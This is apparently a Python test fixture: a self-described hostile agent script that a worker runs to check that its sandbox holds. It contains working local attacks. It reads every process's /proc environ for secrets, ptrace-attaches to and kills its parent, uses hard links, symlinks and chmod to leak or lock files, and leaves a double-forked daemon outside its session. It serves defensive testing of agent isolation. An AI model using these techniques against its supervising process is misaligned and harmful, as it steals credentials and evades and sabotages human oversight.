"""A hostile agent (standard library only): it attacks its worker, then reports what it got.

Run by the worker as `python3 hostile_agent.py ATTACK [ARG]`. Whatever it obtains goes into
its report (the F1 attack publishes its loot where every viewer can read it) and into
`attack.json` in its workspace, for the test to assert on:

    environ PATTERN       read /proc/$PPID/environ and every other /proc/*/environ
    ptrace                PTRACE_ATTACH to its parent (the worker)
    kill                  SIGKILL its parent
    hardlink TARGET       publish TARGET (a worker-owned file) as its report through a hard link
    own-hardlink          publish a file of its own with a second link as its report
    symlink-output DIR    replace output/ by a symlink to DIR (holding investigation.md)
    chmod-root            chmod 000 the workspace root (its workspace's parent)
    setsid                leave a double-forked setsid() daemon writing to daemon.log
"""

import ctypes
import json
import os
import signal
import sys
import time
from pathlib import Path

PTRACE_ATTACH = 16


def attempt(action) -> dict:
    try:
        return {"ok": True, "value": action()}
    except OSError as error:
        return {"ok": False, "error": error.strerror or str(error)}


def read(path: str) -> str:
    with open(path, "rb") as handle:
        return handle.read().decode("utf-8", errors="replace")


def steal_environ(pattern: str) -> dict:
    loot = {"parent": attempt(lambda: read(f"/proc/{os.getppid()}/environ"))}
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            text = attempt(lambda entry=entry: read(f"/proc/{entry}/environ"))
            if text["ok"] and pattern in text["value"]:
                found.append(entry)
    loot["processes_with_pattern"] = found
    return loot


def ptrace_parent() -> dict:
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.ptrace(PTRACE_ATTACH, os.getppid(), None, None)
    return {"ok": result == 0, "error": os.strerror(ctypes.get_errno()) if result else ""}


def daemon() -> int:
    """Fork, setsid(), fork again: a grandchild outside the agent's session and group."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(read_end)
            os.write(write_end, str(os.getpid()).encode())
            os.close(write_end)
            for fd in (0, 1, 2):
                os.close(fd)
            while True:
                with open("daemon.log", "a") as log:
                    log.write(f"{time.time()}\n")
                time.sleep(0.1)
        os._exit(0)
    os.close(write_end)
    pid = int(os.read(read_end, 32))
    os.close(read_end)
    return pid


def main() -> int:
    attack, *args = sys.argv[1:]
    output = Path("output")
    report = output / "investigation.md"
    result: dict = {"uid": os.getuid(), "env": dict(os.environ)}
    if attack == "environ":
        result["loot"] = steal_environ(args[0])
    elif attack == "ptrace":
        result["loot"] = ptrace_parent()
    elif attack == "kill":
        result["loot"] = attempt(lambda: os.kill(os.getppid(), signal.SIGKILL))
    elif attack == "hardlink":
        result["loot"] = attempt(lambda: os.link(args[0], report))
    elif attack == "own-hardlink":
        mine = Path("mine.md")
        mine.write_text("# Published through a second link\n" + "x" * 200)
        result["loot"] = attempt(lambda: os.link(mine, report))
    elif attack == "symlink-output":
        output.rmdir()
        result["loot"] = attempt(lambda: output.symlink_to(args[0]))
    elif attack == "chmod-root":
        result["loot"] = attempt(lambda: os.chmod(Path.cwd().parent, 0))
    elif attack == "setsid":
        result["loot"] = {"daemon": daemon()}
    Path("attack.json").write_text(json.dumps(result))
    if attack != "symlink-output" and not report.is_symlink() and not report.exists():
        report.write_text("# Hostile report\n\n```\n" + json.dumps(result)[:100_000] + "\n```\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
